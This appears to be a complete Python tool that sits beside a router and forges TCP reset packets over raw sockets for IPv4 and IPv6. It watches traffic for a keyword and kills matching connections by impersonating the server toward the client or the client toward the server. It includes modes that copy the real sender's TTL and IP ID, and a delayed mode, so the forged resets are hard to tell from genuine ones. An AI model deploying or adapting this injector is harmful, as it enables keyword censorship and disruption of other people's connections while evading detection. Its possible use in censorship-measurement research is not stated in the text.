"""An out-of-band reset injector beside a router (AF_PACKET), IPv4 and IPv6.

inject.py CONFIG_JSON

CONFIG: {"left": IFACE toward the client, "right": IFACE toward the server, "needle": "...",
         "targets": ["c", "s"], "mode": "own-ttl"|"ttl-copy"|"ipid-copy"|"late",
         "count": N, "flags": "RA"|"R", "window": 0|null (random), "df": bool,
         "ttl": N (own TTL), "ttl_copy": bool, "step": N (IP ID step), "late_seq": "stale"|"current"}

It reads copies of the frames on both interfaces (the real packets still pass: it neither
delays nor drops anything). When a client-to-server segment arriving on LEFT carries NEEDLE,
it forges COUNT resets to the client in the server's name (written onto LEFT) and/or one or
more to the server in the client's name (written onto RIGHT):
  own-ttl    its own TTL, random IP IDs
  ttl-copy   the TTL / hop limit the impersonated sender's packets have as they leave this
             point (so the forged reset arrives with exactly the real packets' TTL)
  ipid-copy  the TTL as ttl-copy (or its own) and IP ID = the last one seen from the
             impersonated sender + STEP (IPv4)
  late       waits until the real response has passed on LEFT toward the client, then forges
             (seq = the stale start of the response, or the current next sequence number)
Prints READY, then one JSON line per forged segment.
"""
import json, os, random, socket, struct, sys, time

ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 0x0003, 0x0800, 0x86DD
PACKET_HOST, PACKET_OUTGOING = 0, 4


def csum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def parse(frame):
    """Ethernet frame -> dict for TCP over IPv4/IPv6, else None."""
    if len(frame) < 14:
        return None
    et = struct.unpack("!H", frame[12:14])[0]
    ip = frame[14:]
    if et == ETH_P_IP and len(ip) >= 20 and ip[9] == 6:
        ihl = (ip[0] & 15) * 4
        tot = struct.unpack("!H", ip[2:4])[0]
        d = {"v": 4, "src": ip[12:16], "dst": ip[16:20], "ttl": ip[8],
             "id": struct.unpack("!H", ip[4:6])[0]}
        tcp = ip[ihl:tot]
    elif et == ETH_P_IPV6 and len(ip) >= 40 and ip[6] == 6:
        plen = struct.unpack("!H", ip[4:6])[0]
        d = {"v": 6, "src": ip[8:24], "dst": ip[24:40], "ttl": ip[7], "id": None}
        tcp = ip[40:40 + plen]
    else:
        return None
    if len(tcp) < 20:
        return None
    d["sport"], d["dport"], d["seq"], d["ack"] = struct.unpack("!HHII", tcp[:12])
    doff = (tcp[12] >> 4) * 4
    d["flags"] = tcp[13]
    d["payload"] = tcp[doff:]
    d["eth_dst"], d["eth_src"] = frame[0:6], frame[6:12]
    return d


def forge(v, src, dst, sport, dport, seq, ack, flags, window, ttl, ipid, df, eth_src, eth_dst):
    fl = 0x04 | (0x10 if "A" in flags else 0)
    ack = ack if "A" in flags else 0
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, fl,
                      window, 0, 0)
    if v == 4:
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ipid, 0x4000 if df else 0,
                          ttl, 6, 0, src, dst)
        iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
        return eth_dst + eth_src + struct.pack("!H", ETH_P_IP) + iph + tcp
    pseudo = src + dst + struct.pack("!IxxxB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    iph = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, ttl, src, dst)
    return eth_dst + eth_src + struct.pack("!H", ETH_P_IPV6) + iph + tcp


def main():
    cfg = json.loads(sys.argv[1])
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(30))
    except (AttributeError, OSError):
        pass
    socks = {}
    for side in ("left", "right"):
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((cfg[side], 0))
        s.setblocking(False)
        socks[side] = s
    needle = cfg["needle"].encode()
    rng = random.Random()
    seen = {}       # (sender addr) -> {"ttl_left_out": , "ttl_right_out": , "id": }
    macs = {}       # side -> (our mac, neighbour mac)
    fired = set()
    pending = []    # late: (deadline, flow info)
    print("READY", flush=True)
    stop = time.monotonic() + 600
    import select

    def fire(req, late_info=None):
        out = []
        offsets = [0, 1460, 4380][: cfg["count"]]
        for target in cfg["targets"]:
            if target == "c":   # to the client, in the server's name, onto LEFT
                imp = req["dst"]
                side, src, dst, sport, dport = "left", req["dst"], req["src"], req["dport"], req["sport"]
                seq0 = req["ack"]
                if late_info and cfg.get("late_seq") == "current":
                    seq0 = late_info["server_next"]
                ack = req["seq"] + len(req["payload"])
                ttl_key = "ttl_left_out"
                eth_src, eth_dst = req["eth_dst"], req["eth_src"]
                seqs = [seq0 + o for o in offsets]
            else:               # to the server, in the client's name, onto RIGHT
                imp = req["src"]
                side, src, dst, sport, dport = "right", req["src"], req["dst"], req["sport"], req["dport"]
                seqs = [req["seq"] + len(req["payload"])]
                ack = req["ack"]
                ttl_key = "ttl_right_out"
                if "right" not in macs:
                    print(json.dumps({"error": "no frame seen leaving on the right yet"}), flush=True)
                    continue
                eth_src, eth_dst = macs["right"]
            info = seen.get(imp, {})
            flow_ids = seen.setdefault((src, sport, dst, dport), {})
            copy_ttl = cfg["mode"] == "ttl-copy" or cfg.get("ttl_copy")
            ttl = info.get(ttl_key) if copy_ttl else cfg.get("ttl")
            ttl = ttl or cfg.get("ttl") or 64
            for seq in seqs:
                if cfg["mode"] == "ipid-copy" and flow_ids.get("id") is not None:
                    ipid = (flow_ids["id"] + cfg.get("step", 1)) & 0xFFFF
                    flow_ids["id"] = ipid
                else:
                    ipid = rng.randrange(1, 65536)
                window = cfg["window"] if cfg["window"] is not None else rng.randrange(1024, 65535)
                frame = forge(req["v"], src, dst, sport, dport, seq, ack, cfg["flags"], window,
                              ttl, ipid if req["v"] == 4 else 0, cfg["df"], eth_src, eth_dst)
                socks[side].send(frame)
                fam = socket.AF_INET if req["v"] == 4 else socket.AF_INET6
                out.append({"injected": target, "src": socket.inet_ntop(fam, src), "sport": sport,
                            "dst": socket.inet_ntop(fam, dst), "dport": dport, "seq": seq & 0xFFFFFFFF,
                            "ttl": ttl, "ip_id": ipid if req["v"] == 4 else None,
                            "flags": cfg["flags"], "window": window, "late": bool(late_info)})
        for o in out:
            print(json.dumps(o), flush=True)

    while time.monotonic() < stop:
        r, _, _ = select.select(list(socks.values()), [], [], 0.05)
        for side, s in socks.items():
            if s not in r:
                continue
            while True:
                try:
                    frame, addr = s.recvfrom(65536)
                except BlockingIOError:
                    break
                d = parse(frame)
                if d is None:
                    continue
                ptype = addr[2]
                flow = (d["src"], d["sport"], d["dst"], d["dport"])
                if ptype == PACKET_OUTGOING:
                    macs[side] = (d["eth_src"], d["eth_dst"])
                    rec = seen.setdefault(d["src"], {})
                    rec["ttl_%s_out" % side] = d["ttl"]
                if d["id"] is not None and ptype in (PACKET_OUTGOING, PACKET_HOST):
                    seen.setdefault(flow, {})["id"] = d["id"]   # IP IDs are per flow (Linux: per socket)
                # late: the real response passing toward the client
                if side == "left" and ptype == PACKET_OUTGOING and d["payload"]:
                    for item in list(pending):
                        req = item[1]
                        if (d["src"], d["sport"], d["dst"], d["dport"]) == (req["dst"], req["dport"], req["src"], req["sport"]):
                            pending.remove(item)
                            time.sleep(0.002)
                            fire(req, {"server_next": d["seq"] + len(d["payload"])})
                if side != "left" or ptype != PACKET_HOST or d["flags"] & 0x04 or not d["flags"] & 0x10:
                    continue
                if needle not in d["payload"]:
                    continue
                conn = (d["src"], d["sport"], d["dst"], d["dport"])
                if conn in fired:
                    continue
                fired.add(conn)
                if cfg["mode"] == "late":
                    pending.append((time.monotonic() + 3, d))
                else:
                    fire(d)
        for item in list(pending):
            if time.monotonic() > item[0]:
                pending.remove(item)
                fire(item[1], {"server_next": item[1]["ack"]})


main()
